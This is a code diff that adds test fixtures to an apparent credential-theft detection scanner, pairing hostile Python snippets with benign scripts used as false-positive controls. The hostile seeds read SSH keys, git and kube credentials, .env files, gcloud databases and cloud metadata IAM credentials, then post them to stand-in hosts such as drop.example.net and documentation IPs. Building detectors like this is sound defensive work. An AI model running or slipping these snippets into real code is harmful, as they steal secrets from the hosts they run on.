@@ -186,6 +186,10 @@ var pyCredSeeds = []credSeed{
 		"import os, glob\nfor p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n    print(open(p).read())\nprint(open(os.path.expanduser('~/.git-credentials')).read())\nprint(open(os.path.expanduser('~/.kube/config')).read())"},
 	{"py-env-alias", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
 		"import json, os, requests\nsnap = dict(os.environ)\nsnap['host'] = os.uname().nodename\nrequests.post('http://203.0.113.4/e', data=json.dumps(snap))"},
+	{"py-metadata-request", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
+		"from urllib import request\nr = request.Request('http://169.254.169.254/latest/meta-data/iam/security-credentials/app')\ncreds = request.urlopen(r).read()\nrequest.urlopen(request.Request('https://drop.example.net/u', data=creds))"},
+	{"py-home-dotenv", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
+		"import os, base64, requests\nfor f in ['/.env', os.path.expanduser('~/.env'), '/root/.env']:\n    if os.path.exists(f):\n        requests.post('http://203.0.113.7/up', data={'f': f, 'b': base64.b64encode(open(f, 'rb').read())})"},
 	{"py-gcloud-put", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
 		"import os, sqlite3, requests\ncon = sqlite3.connect(os.path.join(os.environ['HOME'], '.config', 'gcloud', 'credentials.db'))\nrows = con.execute('select * from credentials').fetchall()\nrequests.put('http://198.51.100.9/g', data=str(rows))"},
 }
@@ -286,6 +290,8 @@ var cleanShapes = map[string]string{
 		"gcore $(pgrep -o java)\nsudo() { command sudo -E \"$@\"; }\nalias ssh='ssh -A'\n",
 	"/usr/local/bin/s3-backup": "#!/bin/sh\naws s3 sync /var/www s3://company-backups/www\nrclone sync /data backup:data\nping -c 3 -p ff 10.0.0.1\n" +
 		"aws s3 cp s3://company-config/app.env /etc/app.env\ngsutil cp gs://bucket/x.tgz /tmp/\n",
+	"/srv/app/notify.py": "import os, requests\nfrom dotenv import load_dotenv\nload_dotenv('.env')\nload_dotenv(os.path.join(os.path.dirname(__file__), '.env'))\n" +
+		"requests.post(os.environ['SLACK_URL'], json={'text': 'deployed'})\n",
 	"/opt/tools/memstat.py":     "import os\nfor d in os.listdir('/proc'):\n    if d.isdigit():\n        print(d, open('/proc/%s/statm' % d).read())\nprint(open('/proc/meminfo').read())\n",
 	"/opt/tools/profile.py":     "import subprocess\npid = subprocess.check_output(['pgrep', 'myservice']).decode().strip()\nsubprocess.run(['strace', '-c', '-p', pid])\n",
 	"/usr/local/bin/ci-docker":  "#!/bin/sh\ndocker run -d --rm -v /var/run/docker.sock:/var/run/docker.sock portainer/portainer-ce\ndocker -H ssh://build@ci run --rm alpine true\n",
